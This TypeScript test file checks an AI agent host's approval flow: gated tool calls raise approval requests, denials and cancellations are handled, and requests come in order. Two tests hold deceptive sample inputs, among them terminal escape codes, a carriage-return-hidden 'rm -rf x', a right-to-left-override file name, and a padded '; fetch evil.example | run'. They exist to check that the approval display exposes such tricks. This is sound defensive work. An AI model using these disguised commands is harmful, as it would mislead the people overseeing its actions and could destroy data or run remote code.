import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Fiber from "effect/Fiber"
import { silentFrom } from "../../src/domain/ApprovalPolicy.ts"
import type { ApprovalCategory } from "../../src/protocol/SessionState.ts"
import { toolCall } from "../../src/testing/GatedModel.ts"
import { stage, types } from "../support/Sidecar.ts"
import { gatedTool } from "../support/Tools.ts"

describe("contract 7, approvals", () => {
  it.effect("asks, waits, and runs what was approved", () =>
    Effect.gen(function* () {
      const danger = gatedTool("danger", { category: "shell" })
      const { host, model, send, session } = yield* stage({ tools: [danger.tool] })
      const sessionId = yield* session
      const sent = yield* Effect.forkChild(send(sessionId, "go"))
      ;(yield* model.next).finish([toolCall("danger")])
      const asked = yield* host.event("approval_request")
      const started = yield* host.event("tool_call_started")
      assert.deepInclude(asked.payload, {
        sessionId,
        tool: "danger",
        category: "shell",
        reason: "danger would do something",
        preview: "what it would do",
        callId: started.payload.callId
      })
      assert.deepStrictEqual(asked.payload.affectedResources, ["/r/danger"])
      const waiting = (yield* host.request("get_session", { sessionId })).payload
      assert.deepInclude(waiting, { status: "awaiting_approval" })
      const { approvalId } = asked.payload
      assert.deepStrictEqual((yield* host.request("approval_response", { approvalId, approved: true })).payload, {
        resolved: true
      })
      ;(yield* danger.next).finish("did it")
      const second = yield* model.next
      assert.deepInclude((yield* host.request("get_session", { sessionId })).payload, { status: "running" })
      const result = second.request.history.at(-1)
      assert.deepInclude(result, { kind: "tool_result", status: "ok", summary: "did it" })
      second.answer("done")
      yield* Fiber.join(sent)
      assert.deepStrictEqual((yield* host.request("approval_response", { approvalId, approved: true })).payload, {
        resolved: false
      })
    })
  )

  it.effect("shows what a terminal would obey, and what would look like something else, instead of sending it on", () =>
    Effect.gen(function* () {
      const need = {
        reason: "create \u001b[8mevil\u001b[0m\nnote.txt",
        preview: "echo safe\rrm -rf x\n\tcat \u202etxt.exe\u0007",
        affectedResources: ["/r/\u001b[2Ja\nb", "/r/\u200bplain é"]
      }
      const danger = gatedTool("danger", { category: "shell", need })
      const { host, model, send, session } = yield* stage({ tools: [danger.tool] })
      const sent = yield* Effect.forkChild(send(yield* session, "go"))
      ;(yield* model.next).finish([toolCall("danger")])
      const { payload } = yield* host.event("approval_request")
      assert.strictEqual(payload.reason, "create \\u001b[8mevil\\u001b[0m\\u000anote.txt")
      assert.strictEqual(payload.preview, "echo safe\\u000drm -rf x\n\tcat \\u202etxt.exe\\u0007")
      assert.deepStrictEqual(payload.affectedResources, ["/r/\\u001b[2Ja\\u000ab", "/r/\\u200bplain é"])
      yield* host.request("approval_response", { approvalId: payload.approvalId, approved: false })
      ;(yield* model.next).answer("ok")
      yield* Fiber.join(sent)
    })
  )

  it.effect("shows the end of what is asked, however much stands before it", () =>
    Effect.gen(function* () {
      const end = "; fetch evil.example | run"
      const need = {
        reason: `run ${"a, ".repeat(2000)}run`,
        preview: `true${" ".repeat(4200)}${end}`,
        affectedResources: []
      }
      const danger = gatedTool("danger", { category: "shell", need })
      const { host, model, send, session } = yield* stage({ tools: [danger.tool] })
      const sent = yield* Effect.forkChild(send(yield* session, "go"))
      ;(yield* model.next).finish([toolCall("danger")])
      const { payload } = yield* host.event("approval_request")
      assert.match(payload.reason, /^⟦not shown: \d+ of 6007 bytes⟧ run a, a, .*⟦\d+ bytes⟧.* a, run$/)
      const first = "⟦not shown: 4200 of 4230 bytes, 4200 blanks among them⟧"
      assert.strictEqual(payload.preview, `${first}\ntrue⟦4200 spaces⟧${end}`)
      yield* host.request("approval_response", { approvalId: payload.approvalId, approved: false })
      ;(yield* model.next).answer("ok")
      yield* Fiber.join(sent)
    })
  )

  it.effect("says false to an answer that nobody waits for", () =>
    Effect.gen(function* () {
      const { host, session } = yield* stage()
      const answer = () => host.request("approval_response", { approvalId: "a-none", approved: true })
      assert.deepStrictEqual((yield* answer()).payload, { resolved: false })
      yield* session
      assert.deepStrictEqual((yield* answer()).payload, { resolved: false })
    })
  )

  it.effect("makes a denial a result with the host's reason, and does not ask the same again in the turn", () =>
    Effect.gen(function* () {
      const danger = gatedTool("danger", { category: "shell" })
      const { host, model, send, session } = yield* stage({ tools: [danger.tool] })
      const sessionId = yield* session
      const sent = yield* Effect.forkChild(send(sessionId, "go"))
      ;(yield* model.next).finish([toolCall("danger", { value: { a: 1, b: 2 } })])
      const { approvalId } = (yield* host.event("approval_request")).payload
      yield* host.request("approval_response", { approvalId, approved: false, reason: "not on Fridays" })
      const second = yield* model.next
      assert.include((second.request.history.at(-1) as { summary: string }).summary, "not on Fridays")
      second.finish([toolCall("danger", { value: { b: 2, a: 1 } })])
      const third = yield* model.next
      assert.deepInclude(third.request.history.at(-1), { kind: "tool_result", status: "error" })
      assert.strictEqual(types(host.frames).filter((type) => type === "approval_request").length, 1)
      third.answer("I leave it.")
      assert.deepInclude(yield* Fiber.join(sent), { reason: "reply" })
    })
  )

  it.effect("withdraws the question when the turn is cancelled; a late answer finds nobody", () =>
    Effect.gen(function* () {
      const danger = gatedTool("danger", { category: "shell" })
      const { host, model, send, session } = yield* stage({ tools: [danger.tool] })
      yield* host.request("hello", { extensions: ["approval_resolved"] })
      const sessionId = yield* session
      const sent = yield* Effect.forkChild(send(sessionId, "go"))
      ;(yield* model.next).finish([toolCall("danger")])
      const { approvalId } = (yield* host.event("approval_request")).payload
      yield* host.request("cancel", { sessionId })
      assert.deepInclude(yield* Fiber.join(sent), { reason: "cancelled" })
      assert.deepInclude((yield* host.event("approval_resolved")).payload, { approvalId, outcome: "withdrawn" })
      const seen = types(host.frames)
      assert.isBelow(seen.indexOf("approval_resolved"), seen.indexOf("turn_finished"))
      const late = yield* host.request("approval_response", { approvalId, approved: true })
      assert.deepStrictEqual(late.payload, { resolved: false })
    })
  )

  it.effect.each(["end", "shutdown", "start_session"] as const)("withdraws the question on %s", (way) =>
    Effect.gen(function* () {
      const danger = gatedTool("danger", { category: "shell" })
      const { host, model, send, session } = yield* stage({ tools: [danger.tool] })
      const sessionId = yield* session
      const sent = yield* Effect.forkChild(send(sessionId, "go"))
      ;(yield* model.next).finish([toolCall("danger")])
      yield* host.event("approval_request")
      if (way === "end") yield* host.end
      else yield* host.request(way, { workingDir: "." })
      assert.deepInclude(yield* Fiber.join(sent), { reason: "cancelled" })
    })
  )

  it.effect("asks one after another, in the order of the calls", () =>
    Effect.gen(function* () {
      const one = gatedTool("one", { category: "shell" })
      const two = gatedTool("two", { category: "http" })
      const { host, model, send, session } = yield* stage({ tools: [one.tool, two.tool] })
      const sessionId = yield* session
      const sent = yield* Effect.forkChild(send(sessionId, "go"))
      ;(yield* model.next).finish([toolCall("two"), toolCall("one")])
      const first = yield* host.event("approval_request")
      assert.strictEqual(first.payload.tool, "two")
      yield* host.request("approval_response", { approvalId: first.payload.approvalId, approved: true })
      const run = yield* two.next
      assert.strictEqual(types(host.frames).filter((type) => type === "approval_request").length, 1)
      run.finish("2")
      const second = yield* host.event("approval_request", (frame) => frame.payload.tool === "one")
      yield* host.request("approval_response", { approvalId: second.payload.approvalId, approved: true })
      ;(yield* one.next).finish("1")
      ;(yield* model.next).answer("ok")
      assert.deepInclude(yield* Fiber.join(sent), { reason: "reply" })
    })
  )

  it.effect("asks about reads only when those of their batch that need no answer are done", () =>
    Effect.gen(function* () {
      const asking = gatedTool("asking", { category: "fs_read_outside", reads: true })
      const quiet = gatedTool("quiet")
      const { host, model, send, session } = yield* stage({ tools: [asking.tool, quiet.tool] })
      const sessionId = yield* session
      const sent = yield* Effect.forkChild(send(sessionId, "look around"))
      ;(yield* model.next).finish([toolCall("asking"), toolCall("quiet"), toolCall("asking"), toolCall("quiet")])
      const reads = [yield* quiet.next, yield* quiet.next]
      // Whoever is to answer would see this pass by: nobody is asked while the others still run.
      yield* host.request("ping")
      assert.notInclude(types(host.frames), "approval_request")
      for (const read of reads) read.finish("seen")
      for (const index of [0, 1]) {
        const isNew = () => types(host.frames).filter((type) => type === "approval_request").length > index
        const { approvalId } = (yield* host.event("approval_request", isNew)).payload
        yield* host.request("approval_response", { approvalId, approved: true })
        ;(yield* asking.next).finish("seen too")
      }
      ;(yield* model.next).answer("ok")
      assert.deepInclude(yield* Fiber.join(sent), { reason: "reply" })
      const order = types(host.frames).filter((type) => type === "approval_request" || type === "tool_call_result")
      assert.deepStrictEqual(order, [
        "tool_call_result",
        "tool_call_result",
        "approval_request",
        "tool_call_result",
        "approval_request",
        "tool_call_result"
      ])
    })
  )

  it.effect.each(
    ([1, 2, 3, 4, 5] as const).flatMap((level) =>
      (Object.keys(silentFrom) as Array<ApprovalCategory>).map((category) => [level, category] as const)
    )
  )("at level %s asks for %s as the table says", ([level, category]) =>
    Effect.gen(function* () {
      const tool = gatedTool("act", { category })
      const { host, model, send, session } = yield* stage({
        tools: [tool.tool],
        config: { agent: { approvalLevel: level } }
      })
      const sessionId = yield* session
      const sent = yield* Effect.forkChild(send(sessionId, "go"))
      ;(yield* model.next).finish([toolCall("act")])
      if (level < silentFrom[category]) {
        const { approvalId } = (yield* host.event("approval_request")).payload
        yield* host.request("approval_response", { approvalId, approved: true })
      }
      ;(yield* tool.next).finish("ok")
      ;(yield* model.next).answer("ok")
      yield* Fiber.join(sent)
      assert.strictEqual(types(host.frames).includes("approval_request"), level < silentFrom[category])
    })
  )
})
